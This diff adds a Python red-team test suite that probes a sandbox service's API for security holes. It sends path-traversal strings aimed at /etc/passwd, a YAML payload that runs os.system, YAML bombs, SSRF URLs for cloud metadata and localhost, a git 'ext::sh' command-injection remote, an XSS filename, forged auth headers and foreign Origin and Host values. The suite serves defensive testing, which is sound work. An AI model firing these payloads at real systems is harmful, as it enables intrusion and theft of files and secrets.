@@ -1,0 +1,286 @@
+"""Attempts over the API, with a right token where one is needed: each returns what it got."""
+
+import base64
+import json
+import re
+import time
+from collections.abc import Callable
+from dataclasses import dataclass
+from urllib.parse import quote
+
+from atoll.testing.redteam.target import Answer, Target
+
+SLOW_SECONDS = 5.0
+SPELLINGS = (
+    "../../etc/passwd", "%2e%2e%2fetc/passwd", "%252e%252e%252fetc/passwd", "....//etc/passwd",
+    "a/../../etc/passwd", "/etc/passwd", "x%00.txt", "..\\..\\etc\\passwd", "/proc/self/environ",
+)  # fmt: skip
+LINKS = ("rt/l", "rt/d/etc/passwd", "rt/d/proc/1/environ", "rt/up/etc/passwd")
+WAITING = ("rt/f", "rt/z")
+TRAPS = """
+mkdir -p /workspace/rt && cd /workspace/rt && ln -sfn /etc/passwd l && ln -sfn / d &&
+ln -sfn ../.. up && rm -f f && mkfifo f && ln -sfn /dev/zero z
+"""
+ODD_NAMES = r"""
+import os
+os.makedirs(b"/workspace/rt/odd", exist_ok=True)
+for name in (b"\x1b[31mred", b"line\nend", b"-rf", b"<img src=x onerror=alert(1)>", b"\xff\xfe"):
+    open(b"/workspace/rt/odd/" + name, "w").close()
+"""
+DEEP = b"[" * 100_000
+WITHOUT = (
+    {"Authorization": ""},
+    {"Authorization": "Bearer wrong"},
+    {"Authorization": "Basic YTpi"},
+    {"Authorization": "", "Cookie": "atoll_session=wrong"},
+    {"Authorization": "", "X-Forwarded-User": "root"},
+)
+CLOSED = ("/v1/sandboxes", "/v1/secrets", "/v1/approvals", "/v1/events", "/v1/profiles")
+ORIGINS = ("https://evil.example", "null", "http://127.0.0.1:1")
+BAD_YAML = (
+    b"!!python/object/apply:os.system [id]",
+    b"a: &a [x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: [*c,*c]\n",
+    b"id: profile.rt\nid: profile.rt\nversion: '1.0.0'\n",
+)
+INNER_REMOTES = ("http://169.254.169.254/x/y", "https://127.0.0.1/x/y", "file:///etc",
+                 "gopher://127.0.0.1/x", "https://[::1]/x/y", "ext::sh -c id")  # fmt: skip
+ASK = """
+import urllib.request, urllib.error
+url = "http://127.0.0.1:8082/broker/custom/NAME?target=https://HOST/x"
+try:
+    print(urllib.request.urlopen(url, timeout=10).read())
+except urllib.error.HTTPError as error:
+    print(error.read().decode())
+"""
+SPELL = """
+import base64, os
+value = os.environ["NAME"]
+print(value, value[::-1])
+print(base64.b64encode(value.encode()))
+"""
+
+
+@dataclass(frozen=True, slots=True)
+class Canaries:
+    """Secrets set for this run, by name and value: one kept outside, one exposed to the
+    sandbox by its owner's word."""
+
+    kept_name: str
+    kept: str
+    exposed_name: str
+    exposed: str
+
+
+Try = Callable[[Target, Canaries], str]
+
+
+def _wrong(name: str, answer: Answer, *, allow: tuple[int, ...] = ()) -> str:
+    """Empty for a refusal: a 4xx, or one of `allow`."""
+    if 400 <= answer.status < 500 or answer.status in allow:
+        return ""
+    return f"{name}: {answer.status} {answer.body[:120]!r}"
+
+
+def _found(*texts: str) -> str:
+    return "; ".join(filter(None, texts))
+
+
+def links(target: Target, _canaries: Canaries) -> str:
+    """Threats 4, 6: links and paths that lead out of the workspace."""
+    target.run("/bin/sh", "-c", TRAPS)
+    paths = [*map(quote, LINKS), *(one if "%" in one else quote(one) for one in SPELLINGS)]
+    found = []
+    for path in paths:
+        for method in ("GET", "PUT"):
+            answer = target.ask(
+                method, target.here(f"/files/content?path={path}"), b"" if method == "PUT" else None
+            )
+            found.append(_wrong(f"{method} {path}", answer))
+        found.append(_wrong(f"list {path}", target.ask("GET", target.here(f"/files?path={path}"))))
+    return _found(*found)
+
+
+def pipes(target: Target, _canaries: Canaries) -> str:
+    """Threat 7: files that never end, or never begin."""
+    target.run("/bin/sh", "-c", TRAPS)
+    found = []
+    for path in WAITING:
+        began = time.monotonic()
+        answer = target.ask("GET", target.here(f"/files/content?path={path}"), seconds=30)
+        took = time.monotonic() - began
+        found += [_wrong(path, answer), f"{path} took {took:.0f} s" if took > SLOW_SECONDS else ""]
+    return _found(*found)
+
+
+def odd_names(target: Target, _canaries: Canaries) -> str:
+    """Threat 12: names of any bytes stay plain JSON."""
+    target.run("python3", "-c", ODD_NAMES)
+    answer = target.ask("GET", target.here("/files?path=rt/odd"))
+    entries = answer.told
+    if answer.status != 200 or not isinstance(entries, dict):
+        return f"the list was answered {answer.status} {answer.body[:200]!r}"
+    return "an escape code came through" if b"\x1b" in answer.body else ""
+
+
+def bombs(target: Target, _canaries: Canaries) -> str:
+    """Threats 14, 122: documents that grow, nest or construct."""
+    tries = [_wrong("deep JSON", target.ask("POST", "/v1/sandboxes", DEEP))]
+    long = json.dumps({"profile": "x" * (2 << 20)}).encode()
+    tries.append(_wrong("long JSON", target.ask("POST", "/v1/sandboxes", long), allow=(0,)))
+    for text in BAD_YAML:
+        tries.append(_wrong(repr(text[:30]), target.ask("PUT", "/v1/profiles/rt", text)))
+    return _found(*tries)
+
+
+def sizes(target: Target, _canaries: Canaries) -> str:
+    """Threat 47: sizes of a terminal beyond all reason."""
+    opened = target.must("POST", target.here("/terminals"), {"argv": ["cat"]})
+    path = target.here(f"/terminals/{opened['terminal_id']}")
+    found = []
+    for cols, rows in ((65535, 65535), (0, 0), (-1, -1), (1 << 40, 1)):
+        answer = target.ask("POST", f"{path}/resize", {"cols": cols, "rows": rows})
+        found.append(f"{cols}x{rows}: {answer.status}" if answer.status >= 500 else "")
+    told = target.ask("GET", path).told or {}
+    size = (told.get("cols", 0), told.get("rows", 0))
+    found.append(f"it is {size} now" if size > (1000, 500) or min(size) < 1 else "")
+    target.ask("DELETE", path)
+    return _found(*found)
+
+
+def masked(target: Target, canaries: Canaries) -> str:
+    """Threat 84: an exposed secret, printed plainly, backwards and encoded."""
+    said = target.run("python3", "-c", SPELL.replace("NAME", canaries.exposed_name))
+    target.heard.append(said.encode())
+    encoded = base64.b64encode(canaries.exposed.encode()).decode().rstrip("=")
+    forms = (canaries.exposed, canaries.exposed[::-1], encoded)
+    return _found(*(f"shown as {form[:6]}…" for form in forms if form in said))
+
+
+def approvals(target: Target, canaries: Canaries) -> str:
+    """Threats 91, 96: a new host is refused, and a token alone cannot say yes."""
+    host = "atoll-redteam.example.com"
+    code = ASK.replace("NAME", canaries.kept_name).replace("HOST", host)
+    said = target.run("python3", "-c", code)
+    if "domain_not_approved" not in said:
+        return f"the broker answered {said[:200]}"
+    found = []
+    for one in _questions(target, host):
+        path = f"/v1/approvals/{one['approval_id']}"
+        yes = {"for": "sandbox", "shown": one["digest"]}
+        for body in (yes, {**yes, "words": "bada-bada"}, {**yes, "interactive": True}):
+            for head in ({}, {"X-Atoll-Interactive": "true"}, {"Authorization": ""}):
+                answer = target.ask("POST", f"{path}/approve", body, headers=head)
+                found.append(_wrong("approve", answer))
+        target.ask("POST", f"{path}/deny", {})
+    return _found(*found) if found else "the question never came"
+
+
+def _questions(target: Target, host: str) -> list[dict[str, str]]:
+    deadline = time.monotonic() + SLOW_SECONDS
+    while time.monotonic() < deadline:
+        told = target.ask("GET", "/v1/approvals?state=pending").told or {}
+        asked = [one for one in told.get("approvals", ()) if host in json.dumps(one)]
+        if asked:
+            return asked
+        time.sleep(0.1)
+    return []
+
+
+def closed_doors(target: Target, _canaries: Canaries) -> str:
+    """Threats 104, 111: no credential, a wrong one, one in an address; ids nobody has."""
+    found = []
+    for path in (*CLOSED, target.here(""), target.here("/files")):
+        for head in WITHOUT:
+            found.append(_wrong(f"{path} {head}", target.ask("GET", path, headers=head)))
+        inside = f"{path}?token={target.token}&access_token={target.token}"
+        said = target.ask("GET", inside, headers={"Authorization": ""})
+        found.append(_wrong(f"{path}?token=", said))
+    absent = target.ask("GET", "/v1/sandboxes/sb_aaaaaaaaaaaaaaaa")
+    found.append("" if absent.status == 404 else f"an unknown id: {absent.status}")
+    return _found(*found)
+
+
+def lies(target: Target, _canaries: Canaries) -> str:
+    """Threats 106, 107: fields nobody has, cursors nobody gave."""
+    tries = {
+        "org_id": target.ask("POST", "/v1/sandboxes", {"profile": "shell", "org_id": "A"}),
+        "owner": target.ask("POST", "/v1/sandboxes", {"profile": "shell", "owner": "root"}),
+        "cursor": target.ask("GET", "/v1/sandboxes?cursor=AAAA"),
+        "limit": target.ask("GET", "/v1/sandboxes?limit=-1"),
+        "after": target.ask("GET", "/v1/events?after=x"),
+    }
+    return _found(*(_wrong(name, answer) for name, answer in tries.items()))
+
+
+def foreign_pages(target: Target, _canaries: Canaries) -> str:
+    """Threat 112: writing requests and sockets from pages that are not ours, foreign names."""
+    found = []
+    for origin in ORIGINS:
+        head = {"Origin": origin, "Cookie": "atoll_session=x", "Authorization": ""}
+        found.append(_wrong(origin, target.ask("POST", "/v1/sandboxes", {}, headers=head)))
+        upgrade = {
+            **{"Origin": origin, "Connection": "Upgrade", "Upgrade": "websocket"},
+            **{"Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA=="},
+        }
+        answer = target.ask("GET", target.here("/terminals/x/attach"), headers=upgrade)
+        found.append(_wrong(f"attach from {origin}", answer))
+    if target.url.startswith("http:"):
+        said = "GET /v1/sandboxes HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n"
+        named = target.raw(f"{said}Authorization: Bearer {target.token}\r\n\r\n".encode())
+        found.append(_wrong("a foreign Host", named))
+    return _found(*found)
+
+
+def remotes(target: Target, _canaries: Canaries) -> str:
+    """Threat 119: remotes that lead to this machine, or run something."""
+    found = []
+    for url in INNER_REMOTES:
+        answer = target.ask("POST", "/v1/repositories/fetch", {"repo_url": url})
+        found.append(_wrong(url, answer, allow=(502, 503)))
+    return _found(*found)
+
+
+def flood(target: Target, _canaries: Canaries) -> str:
+    """Threat 54: output without end, while others ask."""
+    body = {"argv": ["yes"], "timeout": 3, "max_output_bytes": 65536}
+    answer = target.ask("POST", target.here("/exec"), body)
+    kept = len(base64.b64decode((answer.told or {}).get("stdout", "")))
+    began = time.monotonic()
+    target.ask("GET", "/v1/sandboxes")
+    slow = time.monotonic() - began
+    return _found(
+        f"{kept} bytes were kept" if kept > 65536 else "",
+        f"the next answer took {slow:.1f} s" if slow > SLOW_SECONDS else "",
+    )
+
+
+def tracebacks(target: Target, _canaries: Canaries) -> str:
+    """No answer of all of this told of the program's own lines."""
+    telling = re.compile(rb"Traceback \(most recent|File \"/[^\"]+\.py\", line|site-packages")
+    return _found(*(repr(said[:160]) for said in target.heard if telling.search(said)))
+
+
+def leaks(target: Target, canaries: Canaries) -> str:
+    """Threat 79, 84: neither value in any answer, event, log or list."""
+    for path in ("/v1/events?limit=500", "/v1/secrets", target.here("/logs"), target.here("")):
+        target.ask("GET", path)
+    values = (canaries.kept.encode(), canaries.exposed.encode())
+    return _found(*(repr(said[:80]) for said in target.heard if any(v in said for v in values)))
+
+
+ATTEMPTS: tuple[tuple[str, str, Try], ...] = (
+    ("4", "reach files outside the workspace", links),
+    ("7", "hang the file API by pipes and devices", pipes),
+    ("12", "break lists by names", odd_names),
+    ("14", "send documents that explode", bombs),
+    ("47", "set impossible sizes", sizes),
+    ("54", "flood by output", flood),
+    ("84", "print an exposed secret", masked),
+    ("96", "approve without a person", approvals),
+    ("104", "read without a credential", closed_doors),
+    ("106", "send fields and cursors that lie", lies),
+    ("112", "act from a foreign page", foreign_pages),
+    ("119", "fetch from inner addresses", remotes),
+    ("82", "find a traceback in an answer", tracebacks),
+    ("79", "find a secret in an answer, event or log", leaks),
+)
